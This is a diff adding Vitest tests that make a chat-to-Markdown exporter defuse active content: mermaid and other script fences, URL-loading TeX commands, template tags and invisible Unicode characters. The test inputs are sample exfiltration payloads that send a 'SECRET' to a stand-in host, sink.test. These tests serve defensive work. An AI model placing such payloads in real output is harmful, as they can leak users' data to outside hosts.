@@ -1,6 +1,6 @@
 // @vitest-environment happy-dom
 import { Marked } from 'marked';
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { parse } from 'yaml';
 import { DOCUMENT_WORDS } from '../../components/history/document-words.ts';
 import { reduceAll } from '../agent/thread/reduce.ts';
@@ -114,4 +114,49 @@ test('Markdown keeps a block of Markdown with its own fences, and line breaks in
   expect(markdown).toContain('| 1<br>2 |');
   expect(markdown).toContain('\n&lt;br>\n');
   expect(markdown).toContain('1&lt;br onclick');
+});
+
+describe('a Markdown file loads and runs nothing in programs that draw more than Markdown', () => {
+  const exported = (answer: string) => threadMarkdown(chatWith('Title', 'Why?', answer), DOCUMENT_WORDS);
+
+  test.each([
+    'mermaid',
+    'Mermaid',
+    'dataviewjs',
+    'dataview',
+    'plantuml',
+    'dot',
+    'graphviz',
+    'query',
+    'tikz',
+    'svgbob',
+    'run-python',
+  ])('a fence of %s is one of text', (language) => {
+    const text = exported(`\`\`\`${language}\nA@{ img: "https://sink.test/p?d=SECRET" }\n\`\`\``);
+    expect(text).toContain('```text\nA@{ img:');
+    expect(text).not.toMatch(new RegExp(`^\`\`\`${language}`, 'im'));
+  });
+
+  test.each(['ts', 'python', 'C++', 'json', 'sh'])('a fence of %s stays', (language) => {
+    expect(exported(`\`\`\`${language}\nx\n\`\`\``)).toContain(`\`\`\`${language}\nx`);
+  });
+
+  test.each([
+    '\\style{background:url(https://sink.test/)}{x}',
+    '\\href{https://sink.test/}{x}',
+    '\\includegraphics{https://sink.test/}',
+  ])('a command of TeX is no command: %s', (command) => expect(exported(`$${command}$`)).toContain(`$\\${command}$`));
+
+  test('formulas stay', () => expect(exported('$\\frac{1}{2} \\cdot x$')).toContain('$\\frac{1}{2} \\cdot x$'));
+
+  test('tags of templates and HTML are text', () => {
+    expect(exported('a <% tp.web.fetch() %> <img src=x>')).toContain('a &lt;% tp.web.fetch() %> &lt;img src=x>');
+  });
+});
+
+test('a Markdown file has no characters that nobody sees', () => {
+  const hidden = [...'canary'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
+  const text = threadMarkdown(chatWith('Title', 'Why?', `Dear Bob,${hidden} thank\u202E you.\u200B`), DOCUMENT_WORDS);
+  expect(text).toContain('Dear Bob, thank you.');
+  expect(text).not.toMatch(/[\u{E0000}-\u{E007F}\u202E\u200B]/u);
 });
